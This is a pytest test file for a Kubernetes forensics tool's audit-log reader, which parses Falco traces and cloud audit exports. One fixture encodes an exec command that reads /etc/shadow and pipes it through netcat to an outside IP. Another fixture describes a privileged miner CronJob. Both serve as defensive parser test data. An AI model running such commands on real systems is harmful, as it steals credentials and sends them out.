"""The audit reader on real upstream audit events (Falco's trace files) and realistic cloud exports."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from kubeforensics.sources.audit import AuditReader, exec_from_uri
from kubeforensics.sources.base import ReadResult, read_file
from kubeforensics.sources.records import iter_records
from tests.conftest import conformance_files

TRACES = "audit/falco-trace-files"
READERS = {"audit": AuditReader()}


def read(path: Path) -> ReadResult:
    return read_file(path, "audit", readers=READERS)


def read_objs(tmp_path: Path, *objs: Any, name: str = "audit.jsonl") -> ReadResult:
    path = tmp_path / name
    path.write_text("".join(json.dumps(o) + "\n" for o in objs))
    return read(path)


def one_row(tmp_path: Path, obj: Any) -> dict[str, Any]:
    res = read_objs(tmp_path, obj)
    assert res.account.quarantined == 0, [q.reason for q in res.quarantine]
    rows = res.frame("audit").to_dict("records")
    assert len(rows) == 1
    return rows[0]


def trace(conformance: Path, name: str) -> pd.DataFrame:
    res = read(conformance / TRACES / name)
    assert res.account.quarantined == 0, [q.reason for q in res.quarantine]
    return res.frame("audit")


def trace_obj(conformance: Path, name: str) -> dict[str, Any]:
    return json.loads((conformance / TRACES / name).read_text().splitlines()[0])


def ts(text: str) -> pd.Timestamp:
    return pd.Timestamp(text)


# A kubectl >= 1.30 exec over WebSocket: verb get, the command URL-encoded in repeated parameters.
WS_EXEC = {
    "kind": "Event",
    "apiVersion": "audit.k8s.io/v1",
    "level": "Metadata",
    "auditID": "5b4a7e57-0c55-4b8e-9d0f-3c1e0f4b2f11",
    "stage": "ResponseStarted",
    "requestURI": "/api/v1/namespaces/shop/pods/web-7d9c5b8f6-x2k4q/exec?command=sh&command=-c"
    "&command=cat+%2Fetc%2Fshadow+%7C+nc+203.0.113.7+4444&container=web&stdin=true&stdout=true&tty=false",
    "verb": "get",
    "user": {"username": "alice@example.com", "groups": ["dev", "system:authenticated"]},
    "sourceIPs": ["198.51.100.23", "10.0.0.5"],
    "userAgent": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
    "objectRef": {
        "resource": "pods",
        "namespace": "shop",
        "name": "web-7d9c5b8f6-x2k4q",
        "apiVersion": "v1",
        "subresource": "exec",
    },
    "responseStatus": {"metadata": {}, "code": 101},
    "requestReceivedTimestamp": "2024-07-01T10:00:00.123456Z",
    "stageTimestamp": "2024-07-01T10:00:00.145678Z",
    "annotations": {
        "authorization.k8s.io/decision": "allow",
        "authorization.k8s.io/reason": 'RBAC: allowed by RoleBinding "dev-exec/shop" of Role "exec" to Group "dev"',
    },
}


# -- real upstream records ------------------------------------------------------------------------


@pytest.mark.parametrize("path", conformance_files(TRACES), ids=lambda p: p.name)
def test_every_trace_file_is_accounted_for(path: Path) -> None:
    res = read(path)
    acc = res.account
    assert acc.records >= 1
    assert acc.records == acc.ingested + acc.quarantined
    if path.name == "fal_01_003.json":  # {"kind": 0}: deliberately invalid
        assert (acc.ingested, acc.quarantined) == (0, 1)
        assert "'kind' is 0" in res.quarantine[0].reason
        return
    assert acc.quarantined == 0, [q.reason for q in res.quarantine]
    df = res.frame("audit")
    assert len(df) == acc.ingested == acc.rows["audit"]
    assert df["time"].notna().all()
    assert (df["time_field"] == "requestReceivedTimestamp").all()
    assert df["verb"].isin(["create", "delete", "get", "patch"]).all()
    assert df["wrapper"].eq("").all()
    assert df["audit_id"].str.len().eq(36).all()


def test_exec_pod(conformance: Path) -> None:
    r = trace(conformance, "exec_pod.json").iloc[0]
    assert r["exec_command"] == "bash"
    assert r["exec_container"] == "nginx1"  # container= is repeated in this record
    assert (r["exec_stdin"], r["exec_tty"]) == (True, True)
    assert (r["user"], r["verb"], r["resource"], r["subresource"]) == ("minikube-user", "create", "pods", "exec")
    assert (r["code"], r["source_ip"], r["stage"]) == (101, "192.168.99.1", "ResponseStarted")
    assert r["name"] == "nginx-deployment-7998647bdf-phvq7"
    assert r["time"] == ts("2018-10-26T13:38:34.867116Z")
    assert r["stage_time"] == ts("2018-10-26T13:38:34.902914Z")
    assert r["audit_version"] == ""  # this record has no apiVersion
    assert list(r["user_groups"]) == ["system:masters", "system:authenticated"]
    assert r["decision"] == "allow"


def test_attach_pod(conformance: Path) -> None:
    r = trace(conformance, "attach_pod.json").iloc[0]
    assert (r["subresource"], r["exec_container"], r["exec_stdin"]) == ("attach", "nginx1", True)
    assert pd.isna(r["exec_command"]) and pd.isna(r["exec_tty"])


@pytest.mark.parametrize(
    "name, privileged, host_network, host_paths",
    [
        ("create_nginx_pod_privileged.json", True, False, []),
        ("create_nginx_pod_privileged_2nd_container.json", True, False, []),
        ("create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json", True, False, []),
        ("create_nginx_pod_unprivileged.json", False, False, []),
        ("create_nginx_pod_hostnetwork.json", False, True, []),
        ("create_nginx_pod_nohostnetwork.json", False, False, []),
        ("create_nginx_pod_sensitive_mount.json", False, False, ["/etc"]),
    ],
)
def test_pod_security_columns(conformance: Path, name: str, privileged: bool, host_network: bool,
                              host_paths: list[str]) -> None:
    r = trace(conformance, name).iloc[0]
    assert pd.notna(r["pod_privileged"]) and bool(r["pod_privileged"]) is privileged
    assert bool(r["pod_host_network"]) is host_network
    assert not r["pod_host_pid"] and not r["pod_host_ipc"]
    assert list(r["pod_host_paths"]) == host_paths
    assert "nginx" in list(r["pod_images"])
    # The pod was created with generateName: the name comes from the response object.
    assert r["name"].startswith("nginx-deployment-")


def test_sensitive_mount_in_second_container(conformance: Path) -> None:
    r = trace(conformance, "create_nginx_pod_sensitive_mount_2nd_container.json").iloc[0]
    raw = trace_obj(conformance, "create_nginx_pod_sensitive_mount_2nd_container.json")
    expected = [v["hostPath"]["path"] for v in raw["requestObject"]["spec"]["volumes"] if "hostPath" in v]
    assert expected and list(r["pod_host_paths"]) == expected


def test_deployment_template_is_read(conformance: Path) -> None:
    r = trace(conformance, "create_deployment.json").iloc[0]
    assert (r["resource"], r["name"], r["api_group"]) == ("deployments", "nginx-deployment", "extensions")
    assert list(r["pod_images"]) == ["nginx"]
    assert r["pod_privileged"] == False


def test_cluster_admin_binding(conformance: Path) -> None:
    r = trace(conformance, "attach_cluster_admin_role.json").iloc[0]
    assert (r["resource"], r["api_group"], r["name"]) == (
        "clusterrolebindings", "rbac.authorization.k8s.io", "some-reader-binding"
    )
    assert json.loads(r["request_object"])["roleRef"]["name"] == "cluster-admin"
    assert json.loads(r["response_object"])["metadata"]["uid"] == "23cf124e-d92b-11e8-a2e6-080027728ac4"
    assert r["code"] == 201
    assert pd.isna(r["pod_privileged"])  # not a pod


def test_v1beta1_and_unversioned_times(conformance: Path, tmp_path: Path) -> None:
    beta = trace(conformance, "create_nginx_pod_privileged.json").iloc[0]
    assert beta["audit_version"] == "audit.k8s.io/v1beta1"
    raw = trace_obj(conformance, "create_nginx_pod_privileged.json")
    assert beta["time"] == ts(raw["requestReceivedTimestamp"])

    # Older API servers: no requestReceivedTimestamp, then no timestamp, then only the stage time.
    no_rrt = {k: v for k, v in raw.items() if k != "requestReceivedTimestamp"}
    no_ts = {k: v for k, v in no_rrt.items() if k != "timestamp"}
    only_stage = {k: v for k, v in no_ts.items() if k != "metadata"}
    nothing = {k: v for k, v in only_stage.items() if k != "stageTimestamp"}
    unversioned = {k: v for k, v in trace_obj(conformance, "exec_pod.json").items() if k != "requestReceivedTimestamp"}
    res = read_objs(tmp_path, no_rrt, no_ts, only_stage, nothing, unversioned)
    assert res.account.to_json()["records"] == 5
    assert (res.account.ingested, res.account.quarantined) == (4, 1)
    assert "no usable time" in res.quarantine[0].reason and res.quarantine[0].line == 4
    df = res.frame("audit")
    assert list(df["time_field"]) == ["timestamp", "metadata.creationTimestamp", "stageTimestamp", "timestamp"]
    assert list(df["time"]) == [
        ts("2018-10-25T14:09:12Z"),
        ts("2018-10-25T14:09:12Z"),
        ts(raw["stageTimestamp"]),
        ts("2018-10-26T13:38:34Z"),
    ]
    assert list(df["audit_version"]) == ["audit.k8s.io/v1beta1"] * 3 + [""]


# -- exec, attach and port-forward ----------------------------------------------------------------


def test_websocket_exec_with_encoded_args(tmp_path: Path) -> None:
    r = one_row(tmp_path, WS_EXEC)
    assert r["verb"] == "get"
    assert r["exec_command"] == "sh -c 'cat /etc/shadow | nc 203.0.113.7 4444'"
    assert (r["exec_container"], r["exec_stdin"], r["exec_tty"]) == ("web", True, False)
    assert (r["source_ip"], list(r["source_ips"])) == ("10.0.0.5", ["198.51.100.23", "10.0.0.5"])
    assert r["authz_reason"].startswith("RBAC: allowed by RoleBinding")
    assert r["time"] == ts("2024-07-01T10:00:00.123456Z")


def test_exec_secrets_in_command_are_redacted(tmp_path: Path) -> None:
    ev = copy.deepcopy(WS_EXEC)
    ev["requestURI"] = (
        "/api/v1/namespaces/db/pods/mysql-0/exec?command=mysql&command=-uroot"
        "&command=--password%3Dhunter2secret&container=mysql&stdin=true&stdout=true&tty=true"
    )
    r = one_row(tmp_path, ev)
    assert r["exec_command"] == "mysql -uroot --password=[REDACTED]"
    assert "hunter2secret" not in r["request_uri"] and "[REDACTED]" in r["request_uri"]
    assert r["request_uri"].startswith("/api/v1/namespaces/db/pods/mysql-0/exec?command=mysql&command=-uroot&")


@pytest.mark.parametrize(
    "verb, sub, query, command, container, stdin, tty",
    [
        ("get", "attach", "container=app&stdin=true&stdout=true&tty=true", None, "app", True, True),
        ("create", "attach", "container=app&stderr=true&stdout=true", None, "app", None, None),
        ("get", "portforward", "ports=5432", None, None, None, None),
        ("create", "exec", "command=%2Fbin%2Fbash&command=-il&container=app&stdin=true&tty=true",
         "/bin/bash -il", "app", True, True),
        ("create", "exec", "command=echo&command=&command=a%20b&stdout=true", "echo '' 'a b'", None, None, None),
    ],
)
def test_stream_subresources(tmp_path: Path, verb: str, sub: str, query: str, command: str | None,
                             container: str | None, stdin: bool | None, tty: bool | None) -> None:
    ev = copy.deepcopy(WS_EXEC)
    ev["verb"], ev["objectRef"]["subresource"] = verb, sub
    ev["requestURI"] = f"/api/v1/namespaces/shop/pods/web-7d9c5b8f6-x2k4q/{sub}?{query}"
    r = one_row(tmp_path, ev)
    assert (r["verb"], r["subresource"]) == (verb, sub)
    got = tuple(None if pd.isna(v) else v for v in (r["exec_command"], r["exec_container"], r["exec_stdin"], r["exec_tty"]))
    assert got == (command, container, stdin, tty)
    assert r["request_uri"].endswith(query)


def test_exec_from_uri_helper() -> None:
    assert exec_from_uri("/api/v1/namespaces/d/pods/p/exec") == ([], None, None, None)
    assert exec_from_uri("/x/exec?command=ls&command=-la+%2Ftmp&stdin=1&tty=0") == (["ls", "-la /tmp"], None, True, False)


# -- identities -----------------------------------------------------------------------------------


def test_bound_service_account_token(tmp_path: Path) -> None:
    ev = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
        "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/kube-system/secrets?limit=500",
        "verb": "list",
        "user": {
            "username": "system:serviceaccount:shop:web",
            "uid": "6f0c7a2e-1b7d-4e58-9a3c-5d2e8f1b0c44",
            "groups": ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"],
            "extra": {
                "authentication.kubernetes.io/credential-id": ["JTI=8e3f6c1a-2b4d-4e5f-9a0b-1c2d3e4f5a6b"],
                "authentication.kubernetes.io/node-name": ["ip-10-0-3-17.eu-west-1.compute.internal"],
                "authentication.kubernetes.io/node-uid": ["1f2e3d4c-5b6a-4978-8796-a5b4c3d2e1f0"],
                "authentication.kubernetes.io/pod-name": ["web-7d9c5b8f6-x2k4q"],
                "authentication.kubernetes.io/pod-uid": ["c0ffee00-1234-4abc-9def-0123456789ab"],
            },
        },
        "impersonatedUser": {"username": "system:admin"},
        "sourceIPs": ["203.0.113.50"],
        "userAgent": "curl/8.5.0",
        "objectRef": {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "status": "Failure", "reason": "Forbidden", "code": 403,
                           "message": 'secrets is forbidden: User "system:serviceaccount:shop:web" cannot list'},
        "requestReceivedTimestamp": "2024-07-01T10:05:00.000001Z",
        "stageTimestamp": "2024-07-01T10:05:00.002000Z",
        "annotations": {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""},
    }
    r = one_row(tmp_path, ev)
    assert r["sa_pod_name"] == "web-7d9c5b8f6-x2k4q"
    assert r["sa_pod_uid"] == "c0ffee00-1234-4abc-9def-0123456789ab"
    assert r["sa_node_name"] == "ip-10-0-3-17.eu-west-1.compute.internal"
    assert r["sa_credential_id"] == "JTI=8e3f6c1a-2b4d-4e5f-9a0b-1c2d3e4f5a6b"
    assert json.loads(r["user_extra"])["authentication.kubernetes.io/node-uid"] == ["1f2e3d4c-5b6a-4978-8796-a5b4c3d2e1f0"]
    assert (r["user_uid"], r["impersonated_user"]) == ("6f0c7a2e-1b7d-4e58-9a3c-5d2e8f1b0c44", "system:admin")
    assert (r["code"], r["status_reason"], r["decision"]) == (403, "Forbidden", "forbid")
    assert r["status_message"].startswith("secrets is forbidden")


# -- workloads and secrets ------------------------------------------------------------------------


def test_cronjob_template_and_capabilities(tmp_path: Path) -> None:
    pod_spec = {
        "hostPID": True,
        "hostIPC": True,
        "serviceAccountName": "backup",
        "nodeName": "node-3",
        "initContainers": [{"name": "init", "image": "busybox:1.36",
                            "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}],
        "containers": [{"name": "job", "image": "ghcr.io/evil/miner:latest",
                        "securityContext": {"capabilities": {"add": ["NET_ADMIN", "SYS_ADMIN"]}}}],
        "ephemeralContainers": [{"name": "dbg", "image": "busybox:1.36", "securityContext": {"privileged": True}}],
        "volumes": [{"name": "root", "hostPath": {"path": "/", "type": "Directory"}}, {"name": "tmp", "emptyDir": {}}],
    }
    ev = copy.deepcopy(WS_EXEC)
    ev.update(
        verb="create",
        level="RequestResponse",
        requestURI="/apis/batch/v1/namespaces/shop/cronjobs?fieldManager=kubectl-client-side-apply",
        objectRef={"resource": "cronjobs", "namespace": "shop", "name": "backup", "apiGroup": "batch", "apiVersion": "v1"},
        responseStatus={"metadata": {}, "code": 201},
        requestObject={"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "backup"},
                       "spec": {"schedule": "*/5 * * * *",
                                "jobTemplate": {"spec": {"template": {"spec": pod_spec}}}}},
    )
    r = one_row(tmp_path, ev)
    assert (r["pod_privileged"], r["pod_host_pid"], r["pod_host_ipc"], r["pod_host_network"]) == (True, True, True, False)
    assert list(r["pod_capabilities"]) == ["NET_ADMIN", "SYS_ADMIN"]  # containers, then init, deduplicated
    assert list(r["pod_images"]) == ["ghcr.io/evil/miner:latest", "busybox:1.36"]
    assert list(r["pod_host_paths"]) == ["/"]
    assert (r["pod_service_account"], r["pod_node_name"]) == ("backup", "node-3")
    assert pd.isna(r["exec_command"])


def test_secret_data_is_redacted(tmp_path: Path) -> None:
    secret = {"apiVersion": "v1", "kind": "Secret", "type": "Opaque",
              "metadata": {"name": "db-creds", "namespace": "shop"},
              "data": {"password": "czNjcjN0LXBhc3N3MHJk"}, "stringData": {"api-key": "sk_live_51HvQ2pLr"}}
    ev = copy.deepcopy(WS_EXEC)
    ev.update(verb="create", level="RequestResponse", requestURI="/api/v1/namespaces/shop/secrets",
              objectRef={"resource": "secrets", "namespace": "shop", "apiVersion": "v1"},
              responseStatus={"metadata": {}, "code": 201}, requestObject=secret,
              responseObject={**secret, "stringData": None})
    r = one_row(tmp_path, ev)
    for col in ("request_object", "response_object"):
        assert "czNjcjN0LXBhc3N3MHJk" not in r[col] and "sk_live_51HvQ2pLr" not in r[col]
        assert "[REDACTED]" in r[col]
    assert json.loads(r["request_object"])["data"] == {"password": "[REDACTED]"}
    assert r["name"] == "db-creds"  # objectRef has no name on this create
    assert pd.isna(r["pod_privileged"])


# -- cloud envelopes ------------------------------------------------------------------------------

COMPARED = ["time", "audit_id", "verb", "user", "resource", "subresource", "namespace", "name", "source_ip",
            "exec_command", "exec_container", "code", "decision", "request_uri", "user_agent"]


def _aks(log: Any) -> dict[str, Any]:
    return {"time": "2024-07-01T10:00:01.0000000Z", "resourceId": "/SUBSCRIPTIONS/0000/RESOURCEGROUPS/RG/PROVIDERS/"
            "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD", "category": "kube-audit",
            "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
            "properties": {"log": log, "stream": "stdout", "pod": "kube-apiserver-7f9d8c6b5-q2w3e"}}


def test_cloud_envelopes_map_to_the_same_columns(tmp_path: Path) -> None:
    text = json.dumps(WS_EXEC)
    envelopes = [
        WS_EXEC,
        _aks(WS_EXEC),
        _aks(text),
        {"@timestamp": "2024-07-01 10:00:01.000", "@message": text,
         "@logStream": "kube-apiserver-audit-5e1f0a7d9c3b4e2f8a6d0c1b3e5f7a9d", "@log": "123456789012:/aws/eks/prod/cluster"},
        {"logStreamName": "kube-apiserver-audit-5e1f0a7d9c3b4e2f8a6d0c1b3e5f7a9d", "timestamp": 1719828001000,
         "message": text, "ingestionTime": 1719828003000, "eventId": "38373833903912308373722939223728728392837"},
    ]
    reader = AuditReader()
    assert all(reader.sniff(e) for e in envelopes)
    res = read_objs(tmp_path, *envelopes)
    assert (res.account.ingested, res.account.quarantined) == (5, 0)
    df = res.frame("audit")
    assert list(df["wrapper"]) == ["", "aks", "aks", "eks", "eks"]
    plain = df.iloc[0][COMPARED].to_dict()
    for i in range(1, 5):
        assert df.iloc[i][COMPARED].to_dict() == plain
    assert plain["exec_command"] == "sh -c 'cat /etc/shadow | nc 203.0.113.7 4444'"


def _gke(method: str, resource_name: str, **payload: Any) -> dict[str, Any]:
    return {
        "insertId": "e1c9a1b4-6f1d-4a57-8c1f-3c9b6b1a2d0e",
        "labels": {"authorization.k8s.io/decision": "allow",
                   "authorization.k8s.io/reason": "access granted by IAM permissions."},
        "logName": "projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity",
        "operation": {"first": True, "id": "e1c9a1b4-6f1d-4a57-8c1f-3c9b6b1a2d0e", "last": True, "producer": "k8s.io"},
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": "mallory@example.com"},
            "authorizationInfo": [{"granted": True, "permission": method, "resource": resource_name}],
            "methodName": method,
            "requestMetadata": {"callerIp": "203.0.113.9",
                                "callerSuppliedUserAgent": "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625"},
            "resourceName": resource_name,
            "serviceName": "k8s.io",
            "status": {},
            **payload,
        },
        "receiveTimestamp": "2024-07-01T10:00:02.519356512Z",
        "resource": {"labels": {"cluster_name": "prod", "location": "europe-west1", "project_id": "acme-prod"},
                     "type": "k8s_cluster"},
        "severity": "NOTICE",
        "timestamp": "2024-07-01T10:00:00.123456789Z",
    }


def test_gke_cloud_logging_entries(tmp_path: Path) -> None:
    exec_entry = _gke("io.k8s.core.v1.pods.exec.create", "core/v1/namespaces/shop/pods/web-7d9c5b8f6-x2k4q/exec",
                      request={"@type": "core.k8s.io/v1.PodExecOptions", "apiVersion": "v1", "kind": "PodExecOptions",
                               "command": ["sh", "-c", "id; uname -a"], "container": "web", "stdin": True, "tty": True})
    pod_entry = _gke("io.k8s.core.v1.pods.create", "core/v1/namespaces/shop/pods/debug",
                     request={"@type": "core.k8s.io/v1.Pod", "apiVersion": "v1", "kind": "Pod",
                              "metadata": {"name": "debug", "namespace": "shop"},
                              "spec": {"hostNetwork": True, "containers": [
                                  {"name": "c", "image": "alpine:3.20", "securityContext": {"privileged": True}}]}})
    crb_entry = _gke("io.k8s.authorization.rbac.v1.clusterrolebindings.create",
                     "rbac.authorization.k8s.io/v1/clusterrolebindings/dev-cluster-admin")
    denied = _gke("io.k8s.core.v1.secrets.get", "core/v1/namespaces/shop/secrets/db",
                  status={"code": 7, "message": "secrets \"db\" is forbidden"})
    assert all(AuditReader().sniff(e) for e in (exec_entry, pod_entry, crb_entry, denied))
    res = read_objs(tmp_path, exec_entry, pod_entry, crb_entry, denied)
    assert res.account.quarantined == 0, [q.reason for q in res.quarantine]
    e, p, c, d = res.frame("audit").to_dict("records")
    for r in (e, p, c, d):
        assert (r["wrapper"], r["user"], r["source_ip"]) == ("gke", "mallory@example.com", "203.0.113.9")
        assert r["time"] == ts("2024-07-01T10:00:00.123456789Z") and r["time_field"] == "timestamp"
        assert r["user_agent"].startswith("kubectl/v1.29.3")
        assert r["audit_id"] == "e1c9a1b4-6f1d-4a57-8c1f-3c9b6b1a2d0e"
    assert (e["verb"], e["resource"], e["subresource"], e["namespace"], e["name"]) == (
        "create", "pods", "exec", "shop", "web-7d9c5b8f6-x2k4q")
    assert (e["exec_command"], e["exec_container"], e["exec_tty"]) == ("sh -c 'id; uname -a'", "web", True)
    assert (e["code"], e["decision"], e["api_group"], e["api_version"]) == (200, "allow", "", "v1")
    assert pd.isna(e["request_uri"])  # GKE logs none; none is invented
    assert (p["verb"], p["resource"], p["name"], p["pod_privileged"], p["pod_host_network"]) == (
        "create", "pods", "debug", True, True)
    assert (c["resource"], c["api_group"], c["name"]) == ("clusterrolebindings", "rbac.authorization.k8s.io",
                                                          "dev-cluster-admin")
    assert pd.isna(c["namespace"])
    assert (d["verb"], d["code"], d["status_reason"], d["name"]) == ("get", 403, "PERMISSION_DENIED", "db")


def test_gke_fallbacks_for_id_and_time(tmp_path: Path) -> None:
    entry = _gke("io.k8s.core.v1.namespaces.delete", "core/v1/namespaces/shop")
    del entry["insertId"], entry["timestamp"]
    entry["operation"]["id"] = "0f5f2c43-3f0e-4d1c-9c55-0d6f3b2a1e77"
    r = one_row(tmp_path, entry)
    assert r["audit_id"] == "0f5f2c43-3f0e-4d1c-9c55-0d6f3b2a1e77"
    assert (r["time_field"], r["time"]) == ("receiveTimestamp", ts("2024-07-01T10:00:02.519356512Z"))
    assert (r["verb"], r["resource"], r["name"], r["namespace"]) == ("delete", "namespaces", "shop", "shop")


def test_registered_reader_claims_the_trace_files(conformance: Path) -> None:
    from kubeforensics.sources import READERS, detect_format

    assert isinstance(READERS["audit"], AuditReader)
    for path in conformance_files(TRACES):
        if path.name != "fal_01_003.json":
            assert detect_format(path, READERS) == "audit", path.name


def test_gke_entry_of_another_service_is_quarantined(tmp_path: Path) -> None:
    entry = _gke("google.container.v1.ClusterManager.SetMasterAuth", "projects/acme-prod/zones/europe-west1-b/clusters/prod")
    entry["protoPayload"]["serviceName"] = "container.googleapis.com"
    assert not AuditReader().sniff(entry)
    res = read_objs(tmp_path, entry)
    assert (res.account.ingested, res.account.quarantined) == (0, 1)
    assert "container.googleapis.com" in res.quarantine[0].reason


# -- sniffing and bad input -----------------------------------------------------------------------


def test_sniff_leaves_core_events_alone(conformance: Path) -> None:
    reader = AuditReader()
    core = [rec.obj for f in sorted((conformance / "k8s-events").glob("*.json")) for rec in iter_records(f)
            if hasattr(rec, "obj")]
    assert core and all(o["kind"] == "Event" for o in core)
    assert not any(reader.sniff(o) for o in core)
    assert not reader.sniff({"kind": "Event", "apiVersion": "events.k8s.io/v1", "reason": "Killing",
                             "regarding": {"kind": "Pod", "name": "web"}, "note": "Stopping container web"})
    assert reader.sniff(trace_obj(conformance, "exec_pod.json"))
    assert not reader.sniff(trace_obj(conformance, "fal_01_003.json"))
    assert not reader.sniff({"output": "Notice A shell was spawned", "rule": "Terminal shell in container",
                             "priority": "Notice", "time": "2024-07-01T10:00:00.1Z", "output_fields": {}})


@pytest.mark.parametrize(
    "patch, field",
    [
        ({"user": "alice"}, "'user'"),
        ({"requestReceivedTimestamp": "1719828000x123"}, "'requestReceivedTimestamp'"),
        ({"requestReceivedTimestamp": "2024-13-45T25:61:00.000000Z"}, "'requestReceivedTimestamp'"),
        ({"requestReceivedTimestamp": 1e300}, "'requestReceivedTimestamp'"),
        ({"sourceIPs": {"ip": "10.0.0.5"}}, "'sourceIPs'"),
        ({"objectRef": ["pods"]}, "'objectRef'"),
        ({"responseStatus": {"code": "switching"}}, "'responseStatus.code'"),
        ({"user": {"username": "a", "groups": 5}}, "'user.groups'"),
        ({"user": {"username": {"first": "a"}}}, "'user.username'"),
        ({"annotations": "allow"}, "'annotations'"),
        ({"stageTimestamp": True}, "'stageTimestamp'"),
        ({"kind": "Pod"}, "'kind'"),
    ],
)
def test_wrong_types_are_quarantined_with_the_field(tmp_path: Path, patch: dict[str, Any], field: str) -> None:
    bad = {**WS_EXEC, **patch}
    res = read_objs(tmp_path, WS_EXEC, bad, WS_EXEC)
    acc = res.account
    assert (acc.records, acc.ingested, acc.quarantined) == (3, 2, 1)
    q = res.quarantine[0]
    assert q.line == 2 and field in q.reason, q.reason


@pytest.mark.parametrize(
    "envelope, field",
    [
        ({"category": "kube-audit", "properties": {"log": "{\"kind\": \"Event\", \"auditID\": "}}, "'properties.log'"),
        ({"category": "kube-audit", "properties": {"pod": "kube-apiserver-0"}}, "'properties.log'"),
        ({"category": "kube-audit-admin", "properties": "oops"}, "'properties'"),
        ({"logStreamName": "kube-apiserver-audit-1", "message": "[1, 2]"}, "'message'"),
        ({"@logStream": "kube-apiserver-audit-1", "@message": 42}, "'@message'"),
    ],
)
def test_broken_envelopes_are_quarantined(tmp_path: Path, envelope: dict[str, Any], field: str) -> None:
    res = read_objs(tmp_path, envelope)
    assert (res.account.ingested, res.account.quarantined) == (0, 1)
    assert field in res.quarantine[0].reason, res.quarantine[0].reason
